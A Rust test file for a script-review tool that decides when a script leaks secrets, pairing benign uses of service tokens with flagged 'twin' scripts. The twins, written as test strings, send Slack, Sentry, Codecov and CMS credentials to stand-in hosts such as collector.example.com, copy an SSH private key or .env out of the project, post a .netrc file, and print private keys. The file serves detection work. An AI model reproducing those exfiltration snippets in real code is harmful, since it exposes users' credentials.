//! A secret carries whom it belongs to (the token variable it was read from, the service whose
//! CLI printed it), and a sink is benign for it when it is that service's own: the documented
//! API host of the service, wherever in the request the token travels. What a secret file is
//! (a certificate is public, a key is not) and where a write keeps data (the null device keeps
//! nothing) are part of the same model. Each row has its twin: the same shape sent to a host
//! the secret does not belong to, with a second secret, in a query string, or a key file in
//! place of the certificate, stays flagged.

use terraphim_script_review::{Language, Report, Verdict};

use crate::{has_rule, verdict};

use Language::{JavaScript as Js, Python as Py, Shell as Sh};
use Verdict::{Clean, Dangerous};

#[track_caller]
fn lacks_rule(lang: Language, code: &str, rule: &str) -> Report {
    let report = crate::review(lang, code);
    assert!(
        report.findings.iter().all(|f| f.rule != rule),
        "{lang} `{code}`: unexpected {rule}\n{report:#?}"
    );
    report
}

/// A Slack bot posting with its token in the form body (Slack documents `token=` as a body
/// field): `{URL}` and `{EXTRA}` vary per row.
const PY_SLACK_FORM: &str = "import os, urllib.parse, urllib.request\n\nbot = os.environ[\"SLACK_BOT_TOKEN\"]\n\ndef notify(text):\n    form = {\"token\": bot, \"channel\": \"C0DEPLOYS\", \"text\": text{EXTRA}}\n    body = urllib.parse.urlencode(form).encode()\n    req = urllib.request.Request(\"{URL}\", data=body, method=\"POST\")\n    with urllib.request.urlopen(req, timeout=20) as resp:\n        return resp.status\n\nprint(notify(\"web 2.14 is live\"))\n";

fn slack(url: &str, extra: &str) -> String {
    PY_SLACK_FORM
        .replace("{URL}", url)
        .replace("{EXTRA}", extra)
}

/// A token in the body of a request to its own service's documented host is its use; the same
/// body to another service's host, to an unknown host, with a second secret in it, or the token
/// in the URL's query string is a leak.
#[test]
fn a_token_in_the_body_to_its_own_service_is_its_use() {
    verdict(
        Py,
        &slack("https://slack.com/api/chat.postMessage", ""),
        Clean,
    );

    // Twins.
    let github = verdict(
        Py,
        &slack("https://api.github.com/repos/acme/web/dispatches", ""),
        Dangerous,
    );
    has_rule(&github, "secret-to-network");
    let unknown = verdict(
        Py,
        &slack("https://deploy-notes.example.org/api/post", ""),
        Dangerous,
    );
    has_rule(&unknown, "secret-to-network");
    let second = verdict(
        Py,
        &slack(
            "https://slack.com/api/chat.postMessage",
            ", \"aws\": os.environ[\"AWS_SECRET_ACCESS_KEY\"]",
        ),
        Dangerous,
    );
    has_rule(&second, "secret-to-network");
    let query = verdict(
        Py,
        "import os, urllib.request\nbot = os.environ[\"SLACK_BOT_TOKEN\"]\nurl = \"https://slack.com/api/auth.test?token=\" + bot\nwith urllib.request.urlopen(url, timeout=20) as resp:\n    print(resp.status)\n",
        Dangerous,
    );
    has_rule(&query, "secret-to-network");
}

/// Settings returned together (the token and the organisation), then used to build the URL and
/// the body of requests that go with the token to the service's API: the token goes nowhere
/// but its own host. The same settings sent to a host of another service leak it.
#[test]
fn settings_returned_with_the_token_go_where_the_token_goes() {
    let code = |host: &str| {
        format!(
            "import json, os, urllib.request\n\ndef settings():\n    token = os.environ.get(\"SENTRY_AUTH_TOKEN\")\n    org = os.environ.get(\"SENTRY_ORG\", \"acme\")\n    return token, org\n\nclass Api:\n    def __init__(self, token, org):\n        self.token = token\n        self.org = org\n\n    def post(self, path, body):\n        url = \"https://{host}/api/0/organizations/\" + self.org + path\n        headers = {{\"Authorization\": \"Bearer \" + self.token, \"Content-Type\": \"application/json\"}}\n        req = urllib.request.Request(url, data=json.dumps(body).encode(), method=\"POST\", headers=headers)\n        with urllib.request.urlopen(req, timeout=30) as resp:\n            return json.load(resp)\n\napi = Api(*settings())\napi.post(\"/releases/\", {{\"version\": \"shop@3.2.0\", \"projects\": [api.org]}})\nprint(\"release created\")\n"
        )
    };
    verdict(Py, &code("sentry.io"), Clean);
    // Twin: the same settings to a host that is not Sentry's.
    let elsewhere = verdict(Py, &code("errors.example.net"), Dangerous);
    has_rule(&elsewhere, "secret-to-network");
}

/// A JavaScript upload whose JSON body holds the service's token (Codecov's upload takes it as
/// a field): clean to codecov.io, a leak to any other host.
#[test]
fn a_js_body_with_the_token_to_its_own_service() {
    let code = |url: &str| {
        format!(
            "const sha = process.argv[2];\nasync function report(file) {{\n  const res = await fetch('{url}', {{\n    method: 'POST',\n    headers: {{ 'Content-Type': 'application/json' }},\n    body: JSON.stringify({{ token: process.env.CODECOV_TOKEN, commit: sha, name: file }}),\n  }});\n  console.log(`upload ${{file}}: ${{res.status}}`);\n}}\nreport('coverage/lcov.info');\n"
        )
    };
    verdict(Js, &code("https://codecov.io/upload/v4"), Clean);
    let leak = verdict(
        Js,
        &code("https://coverage-relay.example.com/v4"),
        Dangerous,
    );
    has_rule(&leak, "secret-to-network");
    let other = verdict(
        Js,
        &code("https://api.github.com/repos/acme/web/statuses"),
        Dangerous,
    );
    has_rule(&other, "secret-to-network");
}

/// Crowdin's token to its API host is its use; to a host that is not Crowdin's, a leak.
#[test]
fn a_crowdin_token_to_crowdins_api() {
    let code = |base: &str| {
        format!(
            "import os, urllib.request\nAPI = \"{base}\"\ntoken = os.environ[\"CROWDIN_PERSONAL_TOKEN\"]\nreq = urllib.request.Request(API + \"/projects/42/languages/progress\", headers={{\"Authorization\": \"Bearer \" + token}})\nwith urllib.request.urlopen(req, timeout=30) as resp:\n    print(resp.status)\n"
        )
    };
    verdict(Py, &code("https://api.crowdin.com/api/v2"), Clean);
    verdict(Py, &code("https://acme.api.crowdin.com/api/v2"), Clean);
    let leak = verdict(
        Py,
        &code("https://l10n-mirror.example.org/api/v2"),
        Dangerous,
    );
    has_rule(&leak, "secret-to-network");
}

/// A credential store's answer thrown away (`>/dev/null`: only the exit status is used) is
/// written nowhere; written to a file outside the project, it is.
#[test]
fn a_secret_sent_to_the_null_device_is_kept_nowhere() {
    let code = |target: &str| {
        format!(
            "#!/usr/bin/env bash\nset -euo pipefail\nID=\"Developer ID Application: Acme\"\nif security find-generic-password -s acme-notary -w >{target}; then\n  echo \"notary profile present for $ID\"\nfi\n"
        )
    };
    let null = lacks_rule(Sh, &code("/dev/null"), "secret-to-file");
    assert_ne!(null.verdict, Dangerous, "{null:#?}");
    let kept = verdict(Sh, &code("/var/tmp/notary.txt"), Dangerous);
    has_rule(&kept, "secret-to-file");
    let shown = verdict(Sh, &code("/dev/stderr"), Dangerous);
    has_rule(&shown, "secret-to-output");
}

/// A certificate (`fullchain.pem`, mkcert's `rootCA.pem`) is public: printing what it says is
/// no leak. A key file next to it (`privkey.pem`, `rootCA-key.pem`) printed is.
#[test]
fn a_certificate_file_is_no_secret() {
    let code = |file: &str| {
        format!(
            "from pathlib import Path\npem = Path(\"certs\") / \"{file}\"\nprint(pem.read_text())\n"
        )
    };
    verdict(Py, &code("fullchain.pem"), Clean);
    verdict(Py, &code("rootCA.pem"), Clean);
    verdict(Py, &code("root_ca.pem"), Clean);
    has_rule(
        &verdict(Py, &code("privkey.pem"), Dangerous),
        "secret-to-output",
    );
    has_rule(
        &verdict(Py, &code("rootCA-key.pem"), Dangerous),
        "secret-to-output",
    );
    has_rule(
        &verdict(Py, &code("server.pem"), Dangerous),
        "secret-to-output",
    );
    let js = |file: &str| {
        format!(
            "const fs = require('node:fs');\nconst text = fs.readFileSync('.certs/{file}', 'utf8');\nprocess.stdout.write(text);\n"
        )
    };
    verdict(Js, &js("ca-cert.pem"), Clean);
    has_rule(
        &verdict(Js, &js("ca-key.pem"), Dangerous),
        "secret-to-output",
    );
}

/// A key the script just made in its scratch directory, or the project's `.env` rewritten
/// through a temporary file, put in place as a secrets file of the project: the secret stays
/// where the project keeps its secrets. A key from the user's home, a `.env` copied into a file
/// that is no secrets file, or out of the working tree, is still a copy of the secret.
#[test]
fn a_secrets_file_put_in_place_in_the_project_is_no_copy() {
    let made = lacks_rule(
        Sh,
        "#!/usr/bin/env bash\nset -euo pipefail\nWORK=\"$(mktemp -d)\"\ntrap 'rm -rf \"$WORK\"' EXIT\nmkdir -p certs\nopenssl req -x509 -newkey rsa:2048 -nodes -subj /CN=localhost -days 30 -keyout \"$WORK/dev-key.pem\" -out \"$WORK/dev-cert.pem\"\ninstall -m 0600 \"$WORK/dev-key.pem\" certs/dev-key.pem\ninstall -m 0644 \"$WORK/dev-cert.pem\" certs/dev-cert.pem\n",
        "secret-copy",
    );
    assert_ne!(made.verdict, Dangerous, "{made:#?}");
    let rewritten = lacks_rule(
        Py,
        "import os, tempfile\nfd, tmp = tempfile.mkstemp(dir=\".\", prefix=\".env.local.\")\nwith os.fdopen(fd, \"w\") as out:\n    out.write(\"FEATURE_FLAGS=beta\\n\")\nos.replace(tmp, \".env.local\")\n",
        "secret-copy",
    );
    assert_ne!(rewritten.verdict, Dangerous, "{rewritten:#?}");
    let backup = lacks_rule(
        Js,
        "const fs = require('node:fs');\nif (fs.existsSync('.env.development')) fs.copyFileSync('.env.development', '.env.development.local');\n",
        "secret-copy",
    );
    assert_ne!(backup.verdict, Dangerous, "{backup:#?}");

    // Twins.
    let home = verdict(
        Sh,
        "#!/usr/bin/env bash\nset -euo pipefail\nmkdir -p deploy/keys\ninstall -m 0600 ~/.ssh/id_ed25519 deploy/keys/deploy-key.pem\n",
        Dangerous,
    );
    has_rule(&home, "secret-copy");
    let plain = verdict(
        Js,
        "const fs = require('node:fs');\nfs.copyFileSync('.env.development', 'public/settings.txt');\n",
        Dangerous,
    );
    has_rule(&plain, "secret-copy");
    let out = verdict(
        Sh,
        "#!/usr/bin/env bash\nset -euo pipefail\ncp .env /var/tmp/env.bak\n",
        Dangerous,
    );
    has_rule(&out, "secret-copy");
}

/// A token or a password of the project sent to its own server on this machine (a seed
/// script logging in to the local CMS, a client authenticating to the dev API on `localhost`):
/// the project running against itself. A host on the local network may be anyone's, a
/// credential from the user's store is not the project's, and another host is a leak.
#[test]
fn a_projects_secret_to_its_server_on_this_machine_is_its_use() {
    let py = |base: &str| {
        format!(
            "import os, urllib.request\ntoken = os.environ[\"SEED_API_TOKEN\"]\nreq = urllib.request.Request(\"{base}/api/fixtures/reset\", method=\"POST\", headers={{\"Authorization\": \"Bearer \" + token}})\nwith urllib.request.urlopen(req, timeout=10) as resp:\n    print(resp.status)\n"
        )
    };
    verdict(Py, &py("http://localhost:8000"), Clean);
    verdict(Py, &py("http://127.0.0.1:8000"), Clean);
    let lan = crate::review(Py, &py("http://192.168.1.20:8000"));
    assert_ne!(lan.verdict, Clean, "{lan:#?}");
    has_rule(
        &verdict(Py, &py("https://collector.example.com"), Dangerous),
        "secret-to-network",
    );

    let js = |base: &str| {
        format!(
            "async function login() {{\n  const res = await fetch('{base}/admin/login', {{\n    method: 'POST',\n    headers: {{ 'Content-Type': 'application/json' }},\n    body: JSON.stringify({{ email: process.env.CMS_SEED_EMAIL, password: process.env.CMS_SEED_PASSWORD }}),\n  }});\n  console.log(`login: ${{res.status}}`);\n}}\nlogin();\n"
        )
    };
    verdict(Js, &js("http://localhost:1337"), Clean);
    has_rule(
        &verdict(Js, &js("https://cms-seed.example.net"), Dangerous),
        "secret-to-network",
    );
    // A credential from the user's store sent to the same local server is not the project's.
    let store = crate::review(
        Py,
        "import urllib.request\nwith open('/home/dev/.netrc') as fh:\n    creds = fh.read()\nreq = urllib.request.Request(\"http://localhost:8000/import\", data=creds.encode(), method=\"POST\")\nurllib.request.urlopen(req, timeout=10)\n",
    );
    assert_ne!(store.verdict, Clean, "{store:#?}");
}
